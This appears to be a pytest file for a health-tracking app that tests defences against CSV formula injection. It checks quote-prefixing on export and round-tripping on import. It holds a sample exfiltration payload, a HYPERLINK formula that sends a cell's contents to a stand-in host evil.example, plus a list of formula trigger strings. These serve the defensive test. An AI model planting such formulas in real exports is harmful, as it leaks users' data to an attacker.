"""CSV formula injection (OWASP): a text cell a spreadsheet would read as a formula is written
with a leading `'`, in every CSV the app writes; the CSV import takes such cells back."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from healthtrack.portability import csv_io
from healthtrack.portability.models import ImportJob
from metrics.models import HealthMetric
from tests.insights.factories import HealthInsightFactory
from tests.portability.test_csv_import import run

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open lab results")'
TRIGGERS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"]


def csv_tables(client) -> dict[str, list[dict[str, str]]]:
    response = client.get("/api/v1/export?format=csv")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
        for name in archive.namelist()
    }


def test_a_clinician_note_titled_with_a_formula_is_not_a_live_formula_in_insights_csv(
    auth_client, user
):
    HealthInsightFactory(user=user, title=HYPERLINK)

    row = csv_tables(auth_client)["insights"][0]

    assert row["title"] == "'" + HYPERLINK


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_formula_trigger_is_neutralised_and_plain_text_is_not(text):
    assert csv_io.csv_safe_cell(text) == "'" + text
    assert csv_io.csv_safe_cell("Walk 5,000 steps") == "Walk 5,000 steps"
    assert csv_io.csv_safe_cell(-3.5) == -3.5  # numbers stay numbers
    assert csv_io.csv_safe_cell("") == ""


def test_metric_notes_starting_with_a_formula_survive_export_and_import_unchanged(
    auth_client, user
):
    csv_text = (
        "metric_type,value,unit,recorded_at,end_at,source,external_id,notes\r\n"
        "steps,100,,2026-03-02T08:00:00Z,,'@Watch,ext-1,'=1+2\r\n"
        "steps,200,,2026-03-02T09:00:00Z,,,ext-2,'not a formula\r\n"
    )

    job = run(user, ImportJob.Kind.CSV_METRICS, csv_text)

    assert job.status == ImportJob.Status.DONE and job.summary["created"] == 2
    notes = dict(HealthMetric.objects.filter(user=user).values_list("external_id", "notes"))
    assert notes == {"ext-1": "=1+2", "ext-2": "'not a formula"}
    first = HealthMetric.objects.select_related("device").get(external_id="ext-1")
    assert first.device.name == "@Watch"
    exported = {r["external_id"]: r for r in csv_tables(auth_client)["metrics"]}
    assert exported["ext-1"]["notes"] == "'=1+2"
    assert exported["ext-1"]["source"] == "'@Watch"
    assert exported["ext-2"]["notes"] == "'not a formula"


def test_the_import_template_goes_through_the_same_writer():
    assert csv_io.template_csv("csv_metrics").startswith("metric_type,value,")


def test_no_csv_is_written_around_the_safe_writer():
    """A new CSV writer must go through `SafeCsvWriter`: no other `csv.writer` in the apps."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ["accounts", "metrics", "nutrition", "goals", "insights", "healthtrack"]
    writers = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        for line in path.read_text().splitlines()
        if "csv.writer(" in line or "csv.DictWriter(" in line
    ]
    assert writers == ["healthtrack/portability/csv_io.py"]  # in SafeCsvWriter
